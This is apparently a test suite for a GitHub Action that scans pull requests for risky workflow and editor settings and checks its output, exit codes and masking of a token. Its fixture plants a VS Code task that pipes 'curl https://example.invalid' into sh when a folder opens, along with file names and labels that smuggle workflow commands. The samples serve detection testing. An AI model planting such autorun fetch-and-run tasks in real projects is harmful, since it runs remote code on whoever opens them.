import { execFileSync, spawnSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join, resolve } from "node:path";
import { afterAll, expect, test } from "../../support/jest.ts";

const root = resolve(import.meta.dirname, "../../..");
const folder = mkdtempSync(join(tmpdir(), "sallyport-action-"));
const origin = join(folder, "octo-org/wallet");
afterAll(() => rmSync(folder, { recursive: true }));

const git = (...args: readonly string[]): string =>
  execFileSync("git", ["-c", "user.name=a", "-c", "user.email=a@example.org", ...args], {
    cwd: origin,
    encoding: "utf8",
  }).trim();

function commit(files: Readonly<Record<string, string>>): string {
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(origin, path)), { recursive: true });
    writeFileSync(join(origin, path), text);
  }
  git("add", "--all");
  git("commit", "--quiet", "--message", "x");
  return git("rev-parse", "HEAD");
}

mkdirSync(origin, { recursive: true });
git("init", "--quiet", "--initial-branch", "main");
git("config", "uploadpack.allowAnySHA1InWant", "true");
const CALM = "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: 'true'\n";
const first = commit({ "README.md": "# Wallet\n", ".github/workflows/ci.yml": CALM });
git("checkout", "--quiet", "-b", "topic");
commit({
  "src/::error::a.js": "export const a = 1;\n",
  ".vscode/tasks.json": JSON.stringify({
    tasks: [
      { label: "::add-mask::x", command: "curl https://example.invalid | sh", runOptions: { runOn: "folderOpen" } },
    ],
  }),
});
git("checkout", "--quiet", "main");
const second = commit({ "README.md": "# A wallet\n" });
git("merge", "--quiet", "--no-ff", "--message", "merge", "topic");
const merge = git("rev-parse", "HEAD");

let runs = 0;
function look(environment: Readonly<Record<string, string>>) {
  runs += 1;
  const place = join(folder, `run-${runs}`);
  mkdirSync(place);
  const [summary, output] = [join(place, "page.md"), join(place, "output")];
  const { status, stdout, stderr } = spawnSync("bash", [join(root, "tools/look-in-workflow.sh")], {
    encoding: "utf8",
    env: {
      PATH: `${dirname(process.execPath)}:${process.env.PATH}`,
      HOME: place,
      RUNNER_TEMP: place,
      GITHUB_ACTION_PATH: root,
      GITHUB_SERVER_URL: `file://${folder}`,
      GITHUB_REPOSITORY: "octo-org/wallet",
      GITHUB_EVENT_NAME: "pull_request",
      GITHUB_SHA: merge,
      GITHUB_STEP_SUMMARY: summary,
      GITHUB_OUTPUT: output,
      TOKEN: "made-up-token",
      ...environment,
    },
  });
  const read = (path: string): string => readFileSync(path, "utf8");
  return { status, stdout, stderr, place, page: () => read(summary), output: () => read(output), read };
}

test("the action: a pull request's own change is judged, what came to its base meanwhile is not", () => {
  const { status, stdout, stderr, page, output, place, read } = look({});
  expect([status, stderr]).toEqual([0, ""]);
  expect(page()).toContain("chg-editor-autorun");
  expect(page()).not.toContain("README.md");
  // The page takes it for text, whatever a stranger writes.
  expect(
    page()
      .split("\n")
      .filter((line) => line !== "" && !line.startsWith("    ")),
  ).toEqual([]);
  expect(output()).toBe(`folder=${place}/sallyport\n`);
  for (const name of ["change", "workflows"])
    expect(JSON.parse(read(join(place, "sallyport", `${name}.sarif`)))).toMatchObject({ version: "2.1.0" });
  expect(read(join(place, "sallyport/summary.txt"))).toContain("1 workflow and 0 actions");
  const [, stop] = /^::stop-commands::([0-9a-f]{32})$/m.exec(stdout) ?? [];
  const [before = "", inside = "", after = ""] = stdout.split(
    new RegExp(`^::(?:stop-commands::)?${stop}(?:::)?$`, "m"),
  );
  expect(before).toMatch(/^::add-mask::[\w=+/]+\n$/);
  expect(inside).toContain("chg-editor-autorun");
  expect(after.trim()).toBe("");
  expect(stdout + stderr + page()).not.toContain("made-up-token");
});

test("the action: fails from the level on that was asked for, and tells all the same", () => {
  const { status, page, output } = look({ FAIL_ON: "critical" });
  expect(status).toBe(1);
  expect(page()).toContain("chg-editor-autorun");
  expect(output()).toContain("folder=");
  expect(look({ FAIL_ON: "sideways" }).status).toBe(2);
});

test.each([
  ["a push, from what stood there before", { GITHUB_EVENT_NAME: "push", GITHUB_SHA: second, BASE: first }, 0, "low"],
  [
    "a new branch, whose first commit had a parent",
    { GITHUB_EVENT_NAME: "push", GITHUB_SHA: second, BASE: "0".repeat(40) },
    0,
    "low",
  ],
  ["a push that brings what a merge brought", { GITHUB_EVENT_NAME: "push", BASE: second }, 0, "critical"],
])("the action: %s", (_, environment, exit, level) => {
  const { status, page } = look(environment);
  expect(status).toBe(exit);
  expect(page()).toContain(`    Change: ${level},`);
});

test("the action: of an event without a change it says what to run it on", () => {
  const { status, stderr } = look({ GITHUB_EVENT_NAME: "pull_request_target" });
  expect([status, stderr.includes("run it on pull_request")]).toEqual([2, true]);
});
